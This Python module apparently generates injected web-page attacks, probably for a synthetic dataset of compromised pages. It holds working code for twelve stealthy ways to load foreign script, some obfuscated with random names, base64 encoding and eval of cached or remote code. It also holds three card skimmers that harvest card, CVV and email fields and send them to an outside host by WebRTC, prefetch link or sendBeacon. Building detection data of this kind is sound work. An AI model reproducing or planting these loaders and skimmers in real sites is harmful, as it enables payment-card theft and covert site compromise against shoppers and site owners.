"""Edition 7's ways of loading foreign code into a page: a ``nomodule`` fallback, loaders fired by
``requestAnimationFrame``, an IntersectionObserver on the footer or a ``visibilitychange``, an
``autofocus``/``onfocus`` handler, a Range's contextual fragment, ``insertAdjacentHTML`` with an
image error handler, a localStorage-stashed payload, a consent-manager ``text/plain`` tag switched
on, a payload read from a CSS custom property, code hidden in a fetched favicon's tail, code pushed
over a WebSocket, and three card skimmers (a WebRTC data channel, a prefetch link, an analytics-shaped
collect URL). ``url`` is the foreign script (or, for skimmers, the collect endpoint)."""

from __future__ import annotations

import base64
import random
from collections.abc import Callable

from ..attack import Page, insert
from ..splice import Edit

Style = Callable[[Page, str, random.Random], tuple[list[Edit], str]]


def _var(rng: random.Random) -> str:
    return "_" + "".join(rng.choice("abcdefghkmnpqrstuvwxyz") for _ in range(5))


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _head(page: Page, markup: str) -> tuple[list[Edit], str]:
    return [insert(page.head_end(), markup)], "head"


def _tail(page: Page, markup: str) -> tuple[list[Edit], str]:
    return [insert(page.body_end(), markup)], "body-end"


def _nomodule(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    return _head(page, f'<script nomodule src="{url}"></script>')


def _raf(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    v = _var(rng)
    return _tail(
        page,
        f"<script>requestAnimationFrame(function(){{var {v}=document.createElement('script');"
        f"{v}.src='{url}';document.body.appendChild({v})}});</script>",
    )


def _observer(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    v = _var(rng)
    return _tail(
        page,
        f"<script>(function(){{var f=document.querySelector('footer')||document.body;"
        f"new IntersectionObserver(function(e,o){{if(!e[0].isIntersecting)return;o.disconnect();"
        f"var {v}=document.createElement('script');{v}.src='{url}';document.head.appendChild({v})}})"
        f".observe(f)}})();</script>",
    )


def _visibility(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    return _tail(
        page,
        "<script>document.addEventListener('visibilitychange',function l(){if(document.hidden){"
        "document.removeEventListener('visibilitychange',l);var s=document.createElement('script');"
        f"s.src='{url}';document.head.append(s)}}}});</script>",
    )


def _autofocus(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    return _tail(
        page,
        '<input autofocus style="position:absolute;opacity:0;width:1px" aria-hidden="true" '
        "onfocus=\"this.onfocus=null;var s=document.createElement('script');"
        f"s.src=atob('{_b64(url)}');document.body.appendChild(s)\">",
    )


def _fragment(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    return _tail(
        page,
        "<script>document.body.appendChild(document.createRange().createContextualFragment("
        f"'<scr'+'ipt src=\"{url}\"></scr'+'ipt>'));</script>",
    )


def _adjacent(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    return _tail(
        page,
        '<script>document.body.insertAdjacentHTML(\'beforeend\',\'<img src="/x.gif" style="display:none" '
        f'onerror="var s=document.createElement(&quot;script&quot;);s.src=&quot;{url}&quot;;'
        "document.head.appendChild(s)\">');</script>",
    )


def _stash(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    key = f"_cfg{rng.getrandbits(16):04x}"
    return _head(
        page,
        f"<script>(function(k){{var c=localStorage.getItem(k);if(c){{(0,eval)(c);return}}"
        f"fetch('{url}').then(function(r){{return r.text()}}).then(function(t){{localStorage.setItem(k,t);"
        f"(0,eval)(t)}})}})('{key}');</script>",
    )


def _consent(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    return _head(
        page,
        f'<script type="text/plain" data-cookiecategory="analytics" data-src="{url}"></script>'
        "<script>document.querySelectorAll('script[data-cookiecategory]').forEach(function(o){"
        "var s=document.createElement('script');s.src=o.dataset.src;o.after(s)});</script>",
    )


def _css_var(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    name = f"--tw{rng.getrandbits(16):04x}"
    code = _b64(f"var s=document.createElement('script');s.src='{url}';document.head.appendChild(s)")
    return [
        insert(page.head_end(), f"<style>:root{{{name}:'{code}'}}</style>"),
        insert(
            page.body_end(),
            "<script>(new Function(atob(getComputedStyle(document.documentElement)"
            f".getPropertyValue('{name}').trim().slice(1,-1))))();</script>",
        ),
    ], "head+body-end"


def _favicon(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    icon = url.rsplit("/", 1)[0] + "/favicon.ico"
    return _tail(
        page,
        f"<script>fetch('{icon}').then(function(r){{return r.text()}}).then(function(t){{"
        "var i=t.lastIndexOf('/*!');if(i>0)(new Function(t.slice(i+3,-2)))()});</script>",
    )


def _websocket(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    wss = "wss://" + url.split("://", 1)[1].split("/", 1)[0] + "/ws"
    return _tail(
        page,
        f"<script>(function(){{var w=new WebSocket('{wss}');w.onmessage=function(m){{"
        "(new Function(m.data))();w.close()};})();</script>",
    )


_FIELDS = "input[name*=card],input[autocomplete^=cc],input[name*=cvv],input[type=email]"


def _skim_webrtc(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    host = url.split("://", 1)[1].split("/", 1)[0]
    return _tail(
        page,
        "<script>document.addEventListener('submit',function(){var d={};"
        f"document.querySelectorAll('{_FIELDS}').forEach(function(i){{d[i.name]=i.value}});"
        f"var p=new RTCPeerConnection({{iceServers:[{{urls:'stun:{host}:3478'}}]}});"
        "var c=p.createDataChannel('d');c.onopen=function(){c.send(JSON.stringify(d))};"
        "p.createOffer().then(function(o){return p.setLocalDescription(o)})},true);</script>",
    )


def _skim_prefetch(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    return _tail(
        page,
        "<script>document.addEventListener('change',function(){var d=[];"
        f"document.querySelectorAll('{_FIELDS}').forEach(function(i){{d.push(i.value)}});"
        "var l=document.createElement('link');l.rel='prefetch';"
        f"l.href='{url}'+'&d='+btoa(d.join('|'));document.head.appendChild(l)}});</script>",
    )


def _skim_collect(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    return _tail(
        page,
        "<script>window.addEventListener('beforeunload',function(){var q=[];"
        f"document.querySelectorAll('{_FIELDS}').forEach(function(i){{if(i.value)q.push(i.value)}});"
        f"if(q.length)navigator.sendBeacon('{url}'+'&v=2&t=event&el='+encodeURIComponent(q.join(';')))}});"
        "</script>",
    )


STYLES: dict[str, Style] = {
    "nomodule-fallback": _nomodule,
    "animation-frame-loader": _raf,
    "footer-observer-loader": _observer,
    "tab-hidden-loader": _visibility,
    "autofocus-onfocus-handler": _autofocus,
    "range-contextual-fragment": _fragment,
    "adjacent-html-image-error": _adjacent,
    "localstorage-stash": _stash,
    "consent-plain-type-switch": _consent,
    "css-custom-property-payload": _css_var,
    "favicon-tail-loader": _favicon,
    "websocket-code-channel": _websocket,
    "skimmer-webrtc-datachannel": _skim_webrtc,
    "skimmer-prefetch-link": _skim_prefetch,
    "skimmer-collect-beacon": _skim_collect,
}
ENCODED = frozenset({"autofocus-onfocus-handler", "css-custom-property-payload"})  # url not in clear
DATA_STYLES = frozenset({"skimmer-webrtc-datachannel", "skimmer-prefetch-link", "skimmer-collect-beacon"})
